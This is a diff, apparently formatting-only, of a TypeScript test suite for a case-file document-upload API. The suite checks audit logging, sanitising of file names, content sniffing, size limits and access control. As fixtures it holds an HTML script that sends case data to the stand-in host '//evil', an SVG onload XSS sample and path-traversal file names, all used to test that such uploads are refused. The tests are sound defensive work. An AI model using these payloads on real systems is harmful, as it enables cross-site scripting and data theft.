@@ -8,9 +8,18 @@ import { makeDraftCase, makeOrganisation, makeUser } from '../../../../test/fact
 import type { App } from '../../app.js';
 import type { Db } from '../../db/client.js';
 
-const PDF = Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n', 'latin1'), Buffer.alloc(3000, 7), Buffer.from('\n%%EOF\n')]);
-const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
-const HTML = Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/cases").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t))</script></body></html>');
+const PDF = Buffer.concat([
+  Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n', 'latin1'),
+  Buffer.alloc(3000, 7),
+  Buffer.from('\n%%EOF\n'),
+]);
+const PNG = Buffer.from([
+  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1,
+  0, 0, 0, 1, 8, 6, 0, 0, 0,
+]);
+const HTML = Buffer.from(
+  '<!DOCTYPE html><html><body><script>fetch("/api/cases").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t))</script></body></html>',
+);
 const sha256 = (data: Buffer) => createHash('sha256').update(data).digest('hex');
 
 interface Upload {
@@ -24,16 +33,31 @@ interface Upload {
 }
 
 /** A multipart body built byte by byte, so that tests control every header (odd file names included). */
-function multipart({ kind, fileName = 'file.bin', claimedType = 'application/octet-stream', content, fileFirst = false }: Upload) {
+function multipart({
+  kind,
+  fileName = 'file.bin',
+  claimedType = 'application/octet-stream',
+  content,
+  fileFirst = false,
+}: Upload) {
   const boundary = `----casebridge-${Math.random().toString(16).slice(2)}`;
-  const field = kind === undefined ? [] : [Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\n${kind}\r\n`)];
+  const field =
+    kind === undefined
+      ? []
+      : [Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\n${kind}\r\n`)];
   const file = [
-    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: ${claimedType}\r\n\r\n`, 'utf8'),
+    Buffer.from(
+      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: ${claimedType}\r\n\r\n`,
+      'utf8',
+    ),
     content,
     Buffer.from('\r\n'),
   ];
   const parts = fileFirst ? [...file, ...field] : [...field, ...file];
-  return { payload: Buffer.concat([...parts, Buffer.from(`--${boundary}--\r\n`)]), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
+  return {
+    payload: Buffer.concat([...parts, Buffer.from(`--${boundary}--\r\n`)]),
+    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
+  };
 }
 
 /** Every file the blob store holds (its temporary folder included). */
@@ -59,7 +83,10 @@ describe('the documents of a station\u2019s case file', () => {
 
   const upload = (body: Upload, onCase = caseId, as = cookie) =>
     app.inject({ method: 'POST', url: `/api/cases/${onCase}/documents`, ...withCookie(multipart(body), as) });
-  const withCookie = (body: ReturnType<typeof multipart>, as: string) => ({ payload: body.payload, headers: { ...body.headers, cookie: as } });
+  const withCookie = (body: ReturnType<typeof multipart>, as: string) => ({
+    payload: body.payload,
+    headers: { ...body.headers, cookie: as },
+  });
 
   beforeAll(async () => {
     ({ db } = await useTestDatabase());
@@ -70,12 +97,29 @@ describe('the documents of a station\u2019s case file', () => {
   });
 
   it('uploads a PDF and downloads it byte-identical, as an attachment that the browser may not render or keep', async () => {
-    const res = await upload({ kind: 'report', fileName: 'report.pdf', claimedType: 'application/pdf', content: PDF });
+    const res = await upload({
+      kind: 'report',
+      fileName: 'report.pdf',
+      claimedType: 'application/pdf',
+      content: PDF,
+    });
     expect(res.statusCode).toBe(201);
     const document = res.json();
-    expect(document).toMatchObject({ caseId, kind: 'report', name: 'report.pdf', mediaType: 'application/pdf', size: PDF.length, sha256: sha256(PDF), uploadedBy: station.officer.id });
+    expect(document).toMatchObject({
+      caseId,
+      kind: 'report',
+      name: 'report.pdf',
+      mediaType: 'application/pdf',
+      size: PDF.length,
+      sha256: sha256(PDF),
+      uploadedBy: station.officer.id,
+    });
 
-    const download = await app.inject({ method: 'GET', url: `/api/cases/${caseId}/documents/${document.id}/content`, headers: { cookie } });
+    const download = await app.inject({
+      method: 'GET',
+      url: `/api/cases/${caseId}/documents/${document.id}/content`,
+      headers: { cookie },
+    });
     expect(download.statusCode).toBe(200);
     expect(download.rawPayload.equals(PDF)).toBe(true);
     expect(sha256(download.rawPayload)).toBe(document.sha256);
@@ -90,12 +134,30 @@ describe('the documents of a station\u2019s case file', () => {
   });
 
   it('records the upload in the case\u2019s timeline and the upload and the download in the audit log, without the file name', async () => {
-    const res = await upload({ kind: 'evidence', fileName: 'اظهارات آقای احمدی.pdf', content: Buffer.concat([PDF, Buffer.from('timeline')]) });
+    const res = await upload({
+      kind: 'evidence',
+      fileName: 'اظهارات آقای احمدی.pdf',
+      content: Buffer.concat([PDF, Buffer.from('timeline')]),
+    });
     const { id } = res.json();
-    await app.inject({ method: 'GET', url: `/api/cases/${caseId}/documents/${id}/content`, headers: { cookie } });
-    const events = await db.selectFrom('case_events').selectAll().where('case_id', '=', caseId).where('type', '=', 'document.uploaded').execute();
+    await app.inject({
+      method: 'GET',
+      url: `/api/cases/${caseId}/documents/${id}/content`,
+      headers: { cookie },
+    });
+    const events = await db
+      .selectFrom('case_events')
+      .selectAll()
+      .where('case_id', '=', caseId)
+      .where('type', '=', 'document.uploaded')
+      .execute();
     expect(events.map((e) => e.details.documentId)).toContain(id);
-    const audit = await db.selectFrom('audit_log').selectAll().where('resource_id', '=', id).orderBy('seq').execute();
+    const audit = await db
+      .selectFrom('audit_log')
+      .selectAll()
+      .where('resource_id', '=', id)
+      .orderBy('seq')
+      .execute();
     expect(audit.map((a) => a.action)).toEqual(['document.uploaded', 'document.read']);
     expect(audit[0]?.actor_user_id).toBe(station.officer.id);
     expect(JSON.stringify([events, audit])).not.toContain('احمدی');
@@ -103,9 +165,17 @@ describe('the documents of a station\u2019s case file', () => {
 
   it('keeps a Persian file name as typed and offers it for download in RFC 5987 form', async () => {
     const name = 'گزارش\u200cهای صحنه ۱۴۰۳.pdf';
-    const res = await upload({ kind: 'report', fileName: name, content: Buffer.concat([PDF, Buffer.from('persian')]) });
+    const res = await upload({
+      kind: 'report',
+      fileName: name,
+      content: Buffer.concat([PDF, Buffer.from('persian')]),
+    });
     expect(res.json().name).toBe(name);
-    const download = await app.inject({ method: 'GET', url: `/api/cases/${caseId}/documents/${res.json().id}/content`, headers: { cookie } });
+    const download = await app.inject({
+      method: 'GET',
+      url: `/api/cases/${caseId}/documents/${res.json().id}/content`,
+      headers: { cookie },
+    });
     const disposition = download.headers['content-disposition'] as string;
     expect(disposition).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''/);
     expect(decodeURIComponent(disposition.split("UTF-8''")[1] ?? '')).toBe(name);
@@ -115,18 +185,40 @@ describe('the documents of a station\u2019s case file', () => {
     const res = await upload({ kind: 'photo', fileName: '../../etc/pa\u0001ss\u202ewd', content: PNG });
     expect(res.statusCode).toBe(201);
     expect(res.json().name).toBe('passwd');
-    const windows = await upload({ kind: 'photo', fileName: '..\\..\\Windows\\scan\u2067 01.png', content: Buffer.concat([PNG, Buffer.from('2')]) });
+    const windows = await upload({
+      kind: 'photo',
+      fileName: '..\\..\\Windows\\scan\u2067 01.png',
+      content: Buffer.concat([PNG, Buffer.from('2')]),
+    });
     expect(windows.json().name).toBe('scan 01.png');
-    const dotted = await upload({ kind: 'photo', fileName: '..', content: Buffer.concat([PNG, Buffer.from('3')]) });
+    const dotted = await upload({
+      kind: 'photo',
+      fileName: '..',
+      content: Buffer.concat([PNG, Buffer.from('3')]),
+    });
     expect(dotted.json().name).toBe('document');
   });
 
   it('tells the type by the content, not by the claimed type or the name', async () => {
-    const res = await upload({ kind: 'photo', fileName: 'photo.jpg', claimedType: 'image/jpeg', content: Buffer.concat([PNG, Buffer.from('4')]) });
+    const res = await upload({
+      kind: 'photo',
+      fileName: 'photo.jpg',
+      claimedType: 'image/jpeg',
+      content: Buffer.concat([PNG, Buffer.from('4')]),
+    });
     expect(res.json().mediaType).toBe('image/png');
-    const text = await upload({ kind: 'other', fileName: 'note.pdf', claimedType: 'application/pdf', content: Buffer.from('یادداشت افسر نگهبان\n') });
+    const text = await upload({
+      kind: 'other',
+      fileName: 'note.pdf',
+      claimedType: 'application/pdf',
+      content: Buffer.from('یادداشت افسر نگهبان\n'),
+    });
     expect(text.json().mediaType).toBe('text/plain');
-    const download = await app.inject({ method: 'GET', url: `/api/cases/${caseId}/documents/${text.json().id}/content`, headers: { cookie } });
+    const download = await app.inject({
+      method: 'GET',
+      url: `/api/cases/${caseId}/documents/${text.json().id}/content`,
+      headers: { cookie },
+    });
     expect(download.headers['content-type']).toBe('text/plain; charset=utf-8');
   });
 
@@ -139,32 +231,68 @@ describe('the documents of a station\u2019s case file', () => {
     expect([first.statusCode, second.statusCode]).toEqual([201, 201]);
     expect(first.json().id).not.toBe(second.json().id);
     const after = await storedFiles(dataDir);
-    expect(after.filter((f) => !before.includes(f))).toEqual([path.join(sha256(content).slice(0, 2), sha256(content).slice(2, 4), sha256(content))]);
-    const rows = await db.selectFrom('case_documents').select('id').where('sha256', '=', sha256(content)).execute();
+    expect(after.filter((f) => !before.includes(f))).toEqual([
+      path.join(sha256(content).slice(0, 2), sha256(content).slice(2, 4), sha256(content)),
+    ]);
+    const rows = await db
+      .selectFrom('case_documents')
+      .select('id')
+      .where('sha256', '=', sha256(content))
+      .execute();
     expect(rows).toHaveLength(2);
   });
 
   it('lists the documents of a case, oldest first, and records the listing', async () => {
     const listed = (await makeDraftCase(db, { orgId: station.org.id, userId: station.officer.id })).id;
-    await upload({ kind: 'complaint', fileName: 'first.pdf', content: Buffer.concat([PDF, Buffer.from('first')]) }, listed);
-    await upload({ kind: 'medical', fileName: 'second.png', content: Buffer.concat([PNG, Buffer.from('second')]) }, listed);
-    const res = await app.inject({ method: 'GET', url: `/api/cases/${listed}/documents`, headers: { cookie } });
+    await upload(
+      { kind: 'complaint', fileName: 'first.pdf', content: Buffer.concat([PDF, Buffer.from('first')]) },
+      listed,
+    );
+    await upload(
+      { kind: 'medical', fileName: 'second.png', content: Buffer.concat([PNG, Buffer.from('second')]) },
+      listed,
+    );
+    const res = await app.inject({
+      method: 'GET',
+      url: `/api/cases/${listed}/documents`,
+      headers: { cookie },
+    });
     expect(res.statusCode).toBe(200);
-    expect(res.json().items.map((d: { name: string; kind: string }) => [d.name, d.kind])).toEqual([['first.pdf', 'complaint'], ['second.png', 'medical']]);
-    const audit = await db.selectFrom('audit_log').select('action').where('resource_id', '=', listed).execute();
+    expect(res.json().items.map((d: { name: string; kind: string }) => [d.name, d.kind])).toEqual([
+      ['first.pdf', 'complaint'],
+      ['second.png', 'medical'],
+    ]);
+    const audit = await db
+      .selectFrom('audit_log')
+      .select('action')
+      .where('resource_id', '=', listed)
+      .execute();
     expect(audit.map((a) => a.action)).toEqual(['document.listed']);
   });
 
   it('answers documents.not_found for a document of another case, and cases.not_found for another station\u2019s case', async () => {
-    const doc = (await upload({ kind: 'report', fileName: 'mine.pdf', content: Buffer.concat([PDF, Buffer.from('mine')]) })).json();
+    const doc = (
+      await upload({
+        kind: 'report',
+        fileName: 'mine.pdf',
+        content: Buffer.concat([PDF, Buffer.from('mine')]),
+      })
+    ).json();
     const otherCase = (await makeDraftCase(db, { orgId: station.org.id, userId: station.officer.id })).id;
-    const wrongCase = await app.inject({ method: 'GET', url: `/api/cases/${otherCase}/documents/${doc.id}/content`, headers: { cookie } });
+    const wrongCase = await app.inject({
+      method: 'GET',
+      url: `/api/cases/${otherCase}/documents/${doc.id}/content`,
+      headers: { cookie },
+    });
     expect(wrongCase.statusCode).toBe(404);
     expect(wrongCase.json().error.code).toBe('documents.not_found');
 
     const other = await makeStation(db);
     const otherCookie = await signIn(app, other.officer.username);
-    for (const url of [`/api/cases/${caseId}/documents/${doc.id}/content`, `/api/cases/${caseId}/documents`]) {
+    for (const url of [
+      `/api/cases/${caseId}/documents/${doc.id}/content`,
+      `/api/cases/${caseId}/documents`,
+    ]) {
       const res = await app.inject({ method: 'GET', url, headers: { cookie: otherCookie } });
       expect(res.statusCode).toBe(404);
       expect(res.json().error.code).toBe('cases.not_found');
@@ -172,7 +300,11 @@ describe('the documents of a station\u2019s case file', () => {
   });
 
   it('asks for a session, and refuses a user whose role may not touch case files', async () => {
-    const anon = await app.inject({ method: 'POST', url: `/api/cases/${caseId}/documents`, ...multipart({ kind: 'report', content: PDF }) });
+    const anon = await app.inject({
+      method: 'POST',
+      url: `/api/cases/${caseId}/documents`,
+      ...multipart({ kind: 'report', content: PDF }),
+    });
     expect(anon.statusCode).toBe(401);
     const clerk = await makeUser(db, station.org.id, 'prosecutor.clerk');
     const res = await upload({ kind: 'report', content: PDF }, caseId, await signIn(app, clerk.username));
@@ -193,15 +325,29 @@ describe('the documents of a station\u2019s case file', () => {
 
   it('describes the three routes in the OpenAPI document, the upload as multipart', async () => {
     const spec = (await app.inject({ method: 'GET', url: '/api/openapi.json' })).json();
-    expect(Object.keys(spec.paths)).toEqual(expect.arrayContaining(['/api/cases/{id}/documents', '/api/cases/{id}/documents/{documentId}/content']));
-    expect(Object.keys(spec.paths['/api/cases/{id}/documents'].post.requestBody?.content ?? {})).toContain('multipart/form-data');
+    expect(Object.keys(spec.paths)).toEqual(
+      expect.arrayContaining(['/api/cases/{id}/documents', '/api/cases/{id}/documents/{documentId}/content']),
+    );
+    expect(Object.keys(spec.paths['/api/cases/{id}/documents'].post.requestBody?.content ?? {})).toContain(
+      'multipart/form-data',
+    );
   });
 
   it('answers 415 to a body that is not multipart', async () => {
-    const json = await app.inject({ method: 'POST', url: `/api/cases/${caseId}/documents`, headers: { cookie }, payload: { kind: 'report', file: 'JVBERi0xLjcK' } });
+    const json = await app.inject({
+      method: 'POST',
+      url: `/api/cases/${caseId}/documents`,
+      headers: { cookie },
+      payload: { kind: 'report', file: 'JVBERi0xLjcK' },
+    });
     expect(json.statusCode).toBe(415);
     expect(json.json().error.code).toBe('request.unsupported_media_type');
-    const form = await app.inject({ method: 'POST', url: `/api/cases/${caseId}/documents`, headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' }, payload: 'kind=report' });
+    const form = await app.inject({
+      method: 'POST',
+      url: `/api/cases/${caseId}/documents`,
+      headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
+      payload: 'kind=report',
+    });
     expect(form.statusCode).toBe(415);
   });
 });
@@ -215,7 +361,12 @@ describe('refused uploads, which leave nothing in the store', () => {
   let station: Awaited<ReturnType<typeof makeStation>>;
   const upload = (body: Upload, onCase = caseId, as = cookie) => {
     const { payload, headers } = multipart(body);
-    return app.inject({ method: 'POST', url: `/api/cases/${onCase}/documents`, payload, headers: { ...headers, cookie: as } });
+    return app.inject({
+      method: 'POST',
+      url: `/api/cases/${onCase}/documents`,
+      payload,
+      headers: { ...headers, cookie: as },
+    });
   };
 
   beforeAll(async () => {
@@ -233,22 +384,40 @@ describe('refused uploads, which leave nothing in the store', () => {
   };
 
   it('answers 415 documents.unsupported_type to HTML disguised as image/png with a .png name', async () => {
-    const res = await upload({ kind: 'photo', fileName: 'photo.png', claimedType: 'image/png', content: HTML });
+    const res = await upload({
+      kind: 'photo',
+      fileName: 'photo.png',
+      claimedType: 'image/png',
+      content: HTML,
+    });
     expect(res.statusCode).toBe(415);
     expect(res.json().error.code).toBe('documents.unsupported_type');
     await expectNothingStored();
   });
 
   it('answers 415 to a program, a ZIP and an SVG, whatever they are called', async () => {
-    for (const content of [Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.from('PK\x03\x04\x14\x00', 'latin1'), Buffer.from('<svg onload="alert(1)"/>')]) {
-      const res = await upload({ kind: 'evidence', fileName: 'scan.pdf', claimedType: 'application/pdf', content });
+    for (const content of [
+      Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'),
+      Buffer.from('PK\x03\x04\x14\x00', 'latin1'),
+      Buffer.from('<svg onload="alert(1)"/>'),
+    ]) {
+      const res = await upload({
+        kind: 'evidence',
+        fileName: 'scan.pdf',
+        claimedType: 'application/pdf',
+        content,
+      });
       expect(res.statusCode).toBe(415);
     }
     await expectNothingStored();
   });
 
   it('answers 413 documents.too_large past the configured size, and keeps no part of the file', async () => {
-    const res = await upload({ kind: 'report', fileName: 'big.pdf', content: Buffer.concat([PDF.subarray(0, 100), Buffer.alloc(5000)]) });
+    const res = await upload({
+      kind: 'report',
+      fileName: 'big.pdf',
+      content: Buffer.concat([PDF.subarray(0, 100), Buffer.alloc(5000)]),
+    });
     expect(res.statusCode).toBe(413);
     expect(res.json().error.code).toBe('documents.too_large');
     await expectNothingStored();
@@ -262,10 +431,18 @@ describe('refused uploads, which leave nothing in the store', () => {
     const blob = path.join(sha256(content).slice(0, 2), sha256(content).slice(2, 4), sha256(content));
     expect(await storedFiles(dataDir)).toEqual([blob]);
     // The longer file's first 1024 bytes are the blob above, which a document uses: refusing it must not touch it.
-    const longer = await upload({ kind: 'report', fileName: 'longer.pdf', content: Buffer.concat([content, Buffer.from('and more')]) });
+    const longer = await upload({
+      kind: 'report',
+      fileName: 'longer.pdf',
+      content: Buffer.concat([content, Buffer.from('and more')]),
+    });
     expect(longer.statusCode).toBe(413);
     expect(await storedFiles(dataDir)).toEqual([blob]);
-    const download = await app.inject({ method: 'GET', url: `/api/cases/${caseId}/documents/${res.json().id}/content`, headers: { cookie } });
+    const download = await app.inject({
+      method: 'GET',
+      url: `/api/cases/${caseId}/documents/${res.json().id}/content`,
+      headers: { cookie },
+    });
     expect(download.rawPayload.equals(content)).toBe(true);
 
     await db.deleteFrom('case_events').execute();
@@ -283,7 +460,11 @@ describe('refused uploads, which leave nothing in the store', () => {
 
   it('answers 404 cases.not_found for another station\u2019s case, before reading the file', async () => {
     const other = await makeStation(db);
-    const res = await upload({ kind: 'report', fileName: 'x.pdf', content: PDF.subarray(0, 500) }, caseId, await signIn(app, other.officer.username));
+    const res = await upload(
+      { kind: 'report', fileName: 'x.pdf', content: PDF.subarray(0, 500) },
+      caseId,
+      await signIn(app, other.officer.username),
+    );
     expect(res.statusCode).toBe(404);
     expect(res.json().error.code).toBe('cases.not_found');
     await expectNothingStored();
@@ -292,7 +473,10 @@ describe('refused uploads, which leave nothing in the store', () => {
   it('answers 409 cases.not_editable for a case already sent', async () => {
     const sent = await makeDraftCase(db, { orgId: station.org.id, userId: station.officer.id });
     await db.updateTable('cases').set({ status: 'sent' }).where('id', '=', sent.id).execute();
-    const res = await upload({ kind: 'report', fileName: 'late.pdf', content: PDF.subarray(0, 500) }, sent.id);
+    const res = await upload(
+      { kind: 'report', fileName: 'late.pdf', content: PDF.subarray(0, 500) },
+      sent.id,
+    );
     expect(res.statusCode).toBe(409);
     expect(res.json().error.code).toBe('cases.not_editable');
     await expectNothingStored();
